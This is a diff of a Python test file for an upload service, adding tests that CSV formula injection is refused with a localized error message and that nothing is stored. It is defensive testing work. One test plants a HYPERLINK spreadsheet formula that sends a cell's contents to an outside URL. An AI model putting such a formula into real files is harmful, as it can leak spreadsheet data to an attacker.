@@ -1,8 +1,9 @@
-"""Hostile uploads through the desk and the API: what comes back is text, never markup.
+"""Hostile uploads through the desk and the API: what the uploader sees, and that nothing is stored.
 
 Markup in a header, a cell, a sheet name or a file name is echoed in the
 validation report; the page must show it as text (escaped, no element made of
-it) and the API must return it verbatim as JSON data. Nothing is stored.
+it) and the API must return it verbatim as JSON data. A formula in a CSV cell
+is refused with a message in the uploader's language.
 """
 
 from __future__ import annotations
@@ -145,3 +146,37 @@ def test_the_api_report_returns_uploaded_markup_as_data(desk, api_headers, case)
     shown = json.dumps(body["errors"], ensure_ascii=False)
     if case != "file name":  # the API report does not repeat the file's name
         assert markup.replace('"', '\\"') in shown
+
+
+# --- formulas (CSV injection), as the uploader sees them -----------------------------------
+
+
+def _formula(headers, rows):
+    rows[0]["备注"] = '=HYPERLINK("http://example.com/?"&A2,"详情")'
+
+
+def test_a_formula_in_a_csv_is_refused_in_the_users_language_and_nothing_is_stored(desk, api_headers):
+    data = powers_with(_formula)
+    client = desk.test_client()
+    log_in(client, "fg", lang="en")
+    response = upload(client, data, lang="en")
+    assert response.status_code == 422
+    text = visible_text(response.get_data(as_text=True))
+    assert 'Row 2, "备注": starts with "=", which spreadsheet software runs as a formula.' in text
+    body = desk.test_client().post(
+        "/api/v1/uploads", headers=api_headers, content_type="multipart/form-data",
+        data={"kind": "powers", "file": (io.BytesIO(data), "powers.csv")}).get_json()
+    assert [(e["row"], e["column"]) for e in body["errors"]] == [(2, "备注")]
+    assert body["errors"][0]["message"].startswith("第 2 行“备注”以“=”开头,电子表格软件会把它当作公式运行")
+    with desk.app_context():
+        assert db.session.scalar(select(func.count()).select_from(StoredFile)) == 0
+
+
+def test_dashes_for_none_and_inside_text_still_upload(desk):
+    def harmless(headers, rows):
+        rows[0]["备注"] = "-"
+        rows[0]["承办机构"] = "投资科 - 审批组"
+    client = desk.test_client()
+    log_in(client, "fg")
+    assert upload(client, powers_with(harmless)).status_code == 302
+
